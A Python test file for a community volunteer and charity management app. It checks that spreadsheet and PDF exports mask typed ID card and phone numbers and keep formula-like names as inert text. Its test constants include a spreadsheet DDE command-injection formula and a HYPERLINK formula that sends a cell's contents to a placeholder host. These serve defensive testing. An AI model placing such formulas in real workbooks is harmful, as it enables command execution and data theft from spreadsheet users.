"""Lists exported to .xlsx, the monthly report, the volunteer certificate and the organisation
ledger: no whole ID or phone number in what someone typed, and no name that runs as a formula."""

from __future__ import annotations

import subprocess
from datetime import date, timedelta

from openpyxl import load_workbook

from tests.services.test_volunteers import add_volunteer
from wulian_desk.core.organisations import OrganisationInput
from wulian_desk.services.parties import charity, organisations
from wulian_desk.services.reports import exports, rollup
from wulian_desk.services.station import station
from wulian_desk.services.volunteering import certificates, service_hours

TODAY = date.today()
ID_X = "11010519491231002X"
NOTE = f"电话13812345678，身份证{ID_X}，座机029-88886666"
WHOLE = ("13812345678", ID_X, "88886666")
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&C3,"点击")')


def _cells(path):
    book = load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _text(cells) -> str:
    return "\n".join(str(c.value) for c in cells)


def test_a_volunteer_list_export_masks_typed_numbers_and_keeps_formula_names_as_text(ctx, tmp_path):
    add_volunteer(ctx, name=FORMULAS[0], residence_area=f"滨河社区，{NOTE}")
    cells = _cells(exports.export_list(ctx, "volunteers", tmp_path / "volunteers.xlsx"))
    text = _text(cells)
    assert [n for n in WHOLE if n in text] == []
    assert "138****5678" in text
    [name] = [c for c in cells if c.value == FORMULAS[0]]
    assert name.data_type == "s" and name.quotePrefix


def test_a_donor_list_export_does_the_same(ctx, tmp_path):
    charity.create_donor(ctx, name=FORMULAS[1], donor_type="enterprise", contact=f"王经理{NOTE}"[:40],
                         phone="13912345678")
    cells = _cells(exports.export_list(ctx, "donors", tmp_path / "donors.xlsx"))
    text = _text(cells)
    assert [n for n in (*WHOLE, "13912345678") if n in text] == []
    [name] = [c for c in cells if c.value == FORMULAS[1]]
    assert name.data_type == "s" and name.quotePrefix


def test_the_monthly_workbook_keeps_a_formula_like_unit_name_as_text(ctx, tmp_path):
    station.add_org_unit(ctx, name="=1+2社区", tier="community")
    cells = _cells(rollup.print_monthly(ctx, f"{TODAY:%Y-%m}", tmp_path / "monthly.xlsx"))
    named = [c for c in cells if c.value == "=1+2社区"]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)


def _pdf_text(path) -> str:
    raw = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True, text=True, check=True).stdout
    return "".join(raw.split())


def test_a_certificate_masks_numbers_in_the_service_contents(ctx, tmp_path):
    volunteer_id = add_volunteer(ctx)
    service_hours.record_service(ctx, volunteer_id, served_on=TODAY - timedelta(days=1), hours=2,
                                 content=f"陪同就医，家属{NOTE}")
    text = _pdf_text(certificates.issue_certificate(ctx, volunteer_id, tmp_path / "c.pdf").path)
    assert "陪同就医" in text and "138****5678" in text
    assert [n for n in WHOLE if n in text] == []


def test_the_organisation_ledger_masks_numbers_typed_into_its_columns(ctx, tmp_path):
    unit = station.add_org_unit(ctx, name="西街社区", tier="community").ids[0]
    organisations.create_organisation(ctx, OrganisationInput(
        name="夕阳红志愿队", org_unit_id=unit, org_type="mutual_aid", status="filed", leader="李",
        filed_on=date(2025, 5, 1), phone="13912345678", brand_project=f"助老热线{NOTE}"[:40]))
    text = _pdf_text(organisations.print_ledger(ctx, None, tmp_path / "ledger.pdf"))
    assert "夕阳红志愿队" in text
    assert [n for n in (*WHOLE, "13912345678") if n in text] == []
